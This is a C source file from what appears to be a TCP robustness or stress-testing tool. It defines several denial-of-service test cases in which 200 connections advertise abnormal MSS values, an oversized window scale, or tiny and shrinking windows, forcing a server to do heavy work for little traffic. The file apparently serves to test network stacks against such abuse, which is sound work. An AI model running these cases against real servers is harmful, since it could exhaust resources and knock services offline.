/* SPDX-License-Identifier: MIT */
/* Small segments and small windows: much work for few bytes. */
#include "attacker.h"

enum { ASKERS = 200 };

/* Asks for much, and takes it at this rate. */
static bool slow_take(struct attack *a, const struct manner *how, uint16_t win)
{
	char buf[MSS];
	uint16_t n = request(a, buf);

	if (!prepare(a, 20000))
		return false;
	if (!puppets_open(a, ASKERS, how))
		return success(a, "no connection is taken");
	do {
		for (uint32_t i = 0; i < a->npuppets && !a->gone; i++) {
			struct puppet *p = &a->puppets[i];

			p->win = win;
			puppet_send(a, p, 0, buf, n, TCP_ACK | TCP_PSH);
		}
		hear(a, 0);
	} while (more(a));
	return !*a->why;
}

static bool with_mss(struct attack *a, const uint8_t *opt, uint8_t nopt)
{
	const struct manner how = {
		.win = 65535, .ts = true, .acks = true, .opt = opt, .nopt = nopt
	};

	return slow_take(a, &how, 65535);
}

static bool mss_1(struct attack *a)
{
	return with_mss(a, (const uint8_t[]){ TCP_OPT_MSS, 4, 0, 1 }, 4);
}

static bool mss_0(struct attack *a)
{
	return with_mss(a, (const uint8_t[]){ TCP_OPT_MSS, 4, 0, 0 }, 4);
}

static bool mss_absent(struct attack *a)
{
	return with_mss(a, NULL, 0);
}

static bool mss_huge(struct attack *a)
{
	return with_mss(a, (const uint8_t[]){ TCP_OPT_MSS, 4, 255, 255 }, 4);
}

/* A scale beyond what there is. */
static bool wscale_255(struct attack *a)
{
	return with_mss(a,
			(const uint8_t[]){ TCP_OPT_NOP, TCP_OPT_WSCALE, 3, 255,
					   TCP_OPT_MSS, 4, 5, 0xb4 },
			8);
}

static bool window_tiny(struct attack *a)
{
	const struct manner how = { .win = 1, .ts = true, .acks = true };

	return slow_take(a, &how, 1);
}

/* Open for what is in flight, then as if it had never been. */
static bool window_shrinks(struct attack *a)
{
	const struct manner how = { .win = 65535, .ts = true, .acks = true };
	static const uint16_t wins[] = { 65535, 0, 20000, 1, 0, 3000, 1448 };
	char buf[MSS];
	uint16_t n = request(a, buf);
	uint32_t k = 0;

	if (!prepare(a, 20000))
		return false;
	if (!puppets_open(a, ASKERS, &how))
		return success(a, "no connection is taken");
	do {
		k++;
		for (uint32_t i = 0; i < a->npuppets && !a->gone; i++) {
			struct puppet *p = &a->puppets[i];

			p->acks = k % 3;
			p->win = wins[(k + i) % ARRAY_SIZE(wins)];
			if (k % 4)
				puppet_send(a, p, 0, NULL, 0, TCP_ACK);
			else
				puppet_send(a, p, 0, buf, n, TCP_ACK);
		}
		hear(a, 0);
	} while (more(a));
	return !*a->why;
}

const struct attack_kind attacks_window[] = {
	{ "mss_1", mss_1, ON_BOTH | ON_ECHO6 },
	{ "mss_0", mss_0, ON_ECHO | ON_ECHO6 },
	{ "mss_absent", mss_absent, ON_ECHO | ON_ECHO6 },
	{ "mss_huge", mss_huge, ON_ECHO | ON_ECHO6 },
	{ "wscale_255", wscale_255, ON_ECHO | ON_ECHO6 },
	{ "window_tiny", window_tiny, ON_BOTH | ON_ECHO6 },
	{ "window_shrinks", window_shrinks, ON_BOTH | ON_ECHO6 },
	{ 0 },
};
